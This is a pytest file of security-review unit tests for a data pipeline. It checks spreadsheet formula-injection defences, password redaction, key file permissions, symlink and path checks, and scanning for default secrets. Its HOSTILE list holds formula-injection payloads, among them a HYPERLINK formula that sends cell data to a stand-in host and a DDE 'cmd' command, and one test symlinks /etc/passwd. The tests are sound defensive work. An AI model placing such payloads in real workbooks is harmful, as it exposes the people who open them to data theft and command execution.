"""Security review findings (#13) that pure functions and files can show."""

from __future__ import annotations

import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from kcbx.outputs import ledgers
from kcbx.pipeline import PipelineInputError, check_landing
from kcbx.warehouse import redact

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://example.invalid/?d="&C3,"x")', "=cmd|' /C calc'!A0", "+1", "-1+2", "@SUM(A1)", "\t=1"]


def test_workbook_cells_from_data_are_text_never_formulas(tmp_path):
    path = tmp_path / "t.xlsx"
    ledgers.write_workbook(path, "台账", "2025-2026-1", ["序号", "姓名"], {"城关镇": [[v] for v in HOSTILE]})
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(path)  # not data_only: a formula would show as data_type 'f'
    cells = [row[1] for row in book.active.iter_rows(min_row=3)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)  # stays text when a clerk edits the cell


def test_sheet_titles_are_made_safe():
    assert ledgers.safe_sheet_title("a/b:c*d?[e]" + "镇" * 40) == ("a_b_c_d__e_" + "镇" * 40)[:31]


def test_redact_hides_passwords_in_urls_queries_and_dsns():
    assert "s3cret" not in redact("postgresql://kcbx:s3cret@db:5432/kcbx")
    assert "s3cret" not in redact("postgresql://db/kcbx?user=kcbx&password=s3cret&sslmode=require")
    assert "sslmode=require" in redact("postgresql://db/kcbx?password=s3cret&sslmode=require")
    assert "s3cret" not in redact("host=db user=kcbx password=s3cret dbname=kcbx")
    assert "s3 cret" not in redact("host=db password='s3 cret' dbname=kcbx")
    assert redact("postgresql://kcbx@db/kcbx") == "postgresql://kcbx@db/kcbx"


def test_generated_pii_key_is_owner_only_from_the_start(tmp_path, monkeypatch):
    from kcbx import settings

    monkeypatch.delenv("KCBX_PII_KEY", raising=False)
    monkeypatch.setenv("KCBX_HOME", str(tmp_path / "home"))
    # A chmod after the write would leave a moment of 0644; without chmod it would stay so.
    monkeypatch.setattr(Path, "chmod", lambda *a, **k: None)
    previous = os.umask(0o022)
    try:
        key = settings.load().pii_key()
    finally:
        os.umask(previous)
    path = tmp_path / "home" / "pii_key"
    assert len(key) >= 32 and path.stat().st_mode & 0o777 == 0o600
    assert settings.load().pii_key() == key


def test_landing_must_be_under_the_root_without_symlinks(tmp_path):
    root = tmp_path / "landing"
    (root / "2025-2026-1" / "huji").mkdir(parents=True)
    assert check_landing(str(root), "2025-2026-1", root.resolve()) == root / "2025-2026-1"
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "2025-2026-1").mkdir(parents=True)
    with pytest.raises(PipelineInputError, match="KCBX_LANDING_ROOT"):
        check_landing(str(elsewhere), "2025-2026-1", root.resolve())
    with pytest.raises(PipelineInputError, match="KCBX_LANDING_ROOT"):
        check_landing(str(root / ".." / "elsewhere"), "2025-2026-1", root.resolve())
    (root / "2025-2026-1" / "huji" / "passwd.csv").symlink_to("/etc/passwd")
    with pytest.raises(PipelineInputError, match="符号链接"):
        check_landing(str(root), "2025-2026-1", root.resolve())


def test_secrets_and_data_stay_out_of_git_and_the_image():
    ignored = (ROOT / ".gitignore").read_text().split()
    assert ".env" in ignored and "secrets/" in ignored
    docker = (ROOT / ".dockerignore").read_text().split()
    for entry in (".env", "secrets/", ".kcbx/", "landing/", "reports/", ".venv/"):
        assert entry in docker, entry


def test_make_install_upgrades_pip_and_setuptools_before_installing():
    install = (ROOT / "Makefile").read_text().split("$(STAMP): pyproject.toml constraints.txt", 1)[1]
    upgrade = install.index("pip install --quiet --disable-pip-version-check -c constraints.txt pip setuptools")
    assert upgrade < install.index("-e '.[dev]'")
    pins = dict(line.split("==") for line in (ROOT / "constraints.txt").read_text().split() if "==" in line)
    assert int(pins["pip"].split(".")[0]) >= 25 and int(pins["setuptools"].split(".")[0]) >= 78


def test_openpyxl_parses_workbooks_with_defusedxml():
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML


def test_no_tracked_file_holds_a_default_secret():
    import subprocess

    files = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True).stdout.split()
    pattern = re.compile(
        "change" + r"-me|password[=:] *['\"]?(kcbx|airflow|admin|postgres|superset|metabase)['\"]?\b"
        r"|\$\{[A-Z_]*(PASSWORD|SECRET|KEY)[A-Z_]*:-",
        re.IGNORECASE,
    )
    offenders = [
        name
        for name in files
        if not name.endswith(".md")
        and (ROOT / name).is_file()
        and pattern.search((ROOT / name).read_text(errors="ignore"))
    ]
    assert offenders == [] or offenders == ["tests/unit/test_security_units.py"], offenders
